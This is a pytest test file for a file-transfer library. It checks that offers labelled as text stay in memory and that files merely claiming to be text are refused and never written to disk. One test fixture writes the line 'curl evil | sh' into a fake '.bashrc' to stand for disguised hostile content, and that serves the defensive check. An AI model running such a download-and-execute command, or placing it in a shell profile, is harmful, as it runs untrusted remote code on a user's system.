"""A text is shown as one line and kept off the disk, so nothing else passes for one."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from wraith.aio.disk.file_source import FileSource
from wraith.aio.disk.file_target import FileTarget
from wraith.aio.disk.pipes import PipeTarget
from wraith.errors import OfferRefused, WraithError
from wraith.testing.transfer_pipe import Source, TransferPipe
from wraith.transfer.events import Accepted, Declined, OfferReceived, Placed, Progress
from wraith.transfer.memory_store import MemorySource, MemoryTarget
from wraith.transfer.messages import TEXT_BYTES_MAX, OfferKind, Reason
from wraith.transfer.state import ReceiverState
from wraith.transfer.wishes import AnswerT, Fulfils, Wish


def called_a_text(root: Path, *names: str) -> FileSource:
    """Files that are offered as if they were a text."""
    root.mkdir()
    for name in names:
        (root / name).write_text("curl evil | sh\n")
    source = FileSource.scan([root / name for name in names])
    source.outgoing.kind = OfferKind.TEXT
    return source


def refused(pipe: TransferPipe) -> None:
    """Nobody was asked, and both sides know why."""
    (here,) = pipe.received_events
    assert isinstance(here, Declined) and isinstance(here.error, OfferRefused)
    assert "not one file of at most 1 MiB" in str(here.error)
    told = pipe.sent_events[-1]
    assert isinstance(told, Declined) and told.by_peer and told.reason is Reason.NO_TEXT
    assert "called a text and is none" in str(told.error)


@pytest.mark.spec("TR-143")
def test_files_that_are_called_a_text_are_refused_and_nothing_is_written(tmp_path: Path) -> None:
    source = called_a_text(tmp_path / "src", ".bashrc", "z")
    out = tmp_path / "out"
    pipe = TransferPipe(source, FileTarget(out))
    pipe.run()
    assert os.listdir(out) == []
    assert not any(isinstance(event, OfferReceived) for event in pipe.received_events)
    refused(pipe)


FALSE: dict[str, MemorySource] = {
    "too long": MemorySource({b"text": bytes(TEXT_BYTES_MAX + 1)}, kind=OfferKind.TEXT),
    "of unknown size": MemorySource({b"text": b"x"}, kind=OfferKind.TEXT, size_is_known=False),
    "a folder": MemorySource({b"text": None}, kind=OfferKind.TEXT),
    "in a folder": MemorySource({b"d": None, b"d/text": b"x"}, kind=OfferKind.TEXT),
    "two": MemorySource({b"a": b"", b"b": b""}, kind=OfferKind.TEXT),
}


@pytest.mark.spec("TR-143")
@pytest.mark.parametrize("what", FALSE)
@pytest.mark.parametrize("target", ["files", "memory", "pipe"])
def test_every_target_is_safe_from_what_is_no_text(what: str, target: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    with (tmp_path / "stdout").open("w+b") as stdout:
        targets: dict[str, Fulfils] = {
            "files": FileTarget(out),
            "memory": MemoryTarget(),
            "pipe": PipeTarget(stdout.fileno()),
        }
        pipe = TransferPipe(FALSE[what], targets[target])
        pipe.run()
        refused(pipe)
        assert os.listdir(out) == [] and not os.fstat(stdout.fileno()).st_size


@pytest.mark.spec("TR-143")
@pytest.mark.parametrize("size", [0, 1, TEXT_BYTES_MAX])
def test_a_text_is_shown_and_becomes_no_file(size: int, tmp_path: Path) -> None:
    out = tmp_path / "out"
    source: Source = MemorySource.text("x" * size)
    pipe = TransferPipe(source, FileTarget(out))
    pipe.run()
    placed = next(event for event in pipe.received_events if isinstance(event, Placed))
    assert placed.text == b"x" * size
    assert os.listdir(out) == []


class WatchedTarget(FileTarget):
    """Notes the most that was held in memory for a text."""

    held_bytes = 0

    def fulfil(self, wish: Wish[AnswerT]) -> AnswerT | WraithError:
        result = super().fulfil(wish)
        if self.text_target is not None:
            chunks = [c for held in self.text_target.data.values() for c in held.values()]
            self.held_bytes = max(self.held_bytes, sum(map(len, chunks)))
        return result


@pytest.mark.spec("TR-143")
@pytest.mark.parametrize("is_text_whole", [False, True], ids=["cut off", "whole"])
def test_files_that_are_offered_after_a_text_land_on_disk(
    is_text_whole: bool, tmp_path: Path
) -> None:
    path, data = tmp_path / "big.bin", os.urandom(3 * TEXT_BYTES_MAX)
    path.write_bytes(data)
    target = WatchedTarget(tmp_path / "out")
    pipe = TransferPipe(MemorySource.text("x" * TEXT_BYTES_MAX), target)
    if is_text_whole:  # nothing but its receipt is under way
        pipe.run(stop=lambda: pipe.receiver.is_placed)
    else:
        pipe.run(stop=lambda: target.held_bytes > 0)
        assert not pipe.receiver.is_placed
    pipe.source = FileSource.scan([path])
    pipe.connect()
    pipe.run()
    assert os.listdir(target.out) == [b"big.bin"]
    assert (tmp_path / "out" / "big.bin").read_bytes() == data
    placed = [event for event in pipe.received_events if isinstance(event, Placed)][-1]
    assert placed.placed == (str(tmp_path / "out" / "big.bin"),) and placed.text is None
    assert 0 < target.held_bytes <= TEXT_BYTES_MAX
    assert target.text_target is None


@pytest.mark.spec("TR-143")
def test_a_text_between_two_connections_of_a_file_loses_nothing_of_it(tmp_path: Path) -> None:
    path, data = tmp_path / "big.bin", os.urandom(3 * TEXT_BYTES_MAX)
    path.write_bytes(data)
    target = WatchedTarget(tmp_path / "out")
    pipe = TransferPipe(FileSource.scan([path]), target, cut=1 << 16)
    pipe.run(stop=lambda: any(isinstance(e, Progress) for e in pipe.received_events))
    pipe.source = MemorySource.text("a word")
    pipe.connect()
    pipe.run(stop=lambda: pipe.receiver.is_placed)
    pipe.source = FileSource.scan([path])
    pipe.connect()
    pipe.run()
    kept = [event for event in pipe.received_events if isinstance(event, Accepted)][-1]
    assert 0 < kept.bytes_reused < len(data)
    assert (tmp_path / "out" / "big.bin").read_bytes() == data
    assert os.listdir(target.out) == [b"big.bin"]


@pytest.mark.spec("TR-143")
def test_a_text_that_is_opened_while_another_listing_has_come_is_still_that_text(
    tmp_path: Path,
) -> None:
    """It was accepted, and the connection went before it was opened; then another offer came and
    went unanswered."""
    (path := tmp_path / "a.bin").write_bytes(b"a" * 9)
    pipe = TransferPipe(MemorySource.text("a word"), FileTarget(tmp_path / "out"))
    pipe.run(stop=lambda: pipe.receiver.state is ReceiverState.OPENING)
    text, pipe.source, pipe.accept = pipe.source, FileSource.scan([path]), False
    pipe.connect()
    pipe.run()
    assert pipe.receiver.state is ReceiverState.DECIDING
    pipe.source = text
    pipe.connect()
    pipe.run()
    placed = [event for event in pipe.received_events if isinstance(event, Placed)][-1]
    assert placed.text == b"a word" and placed.placed == ("text",)
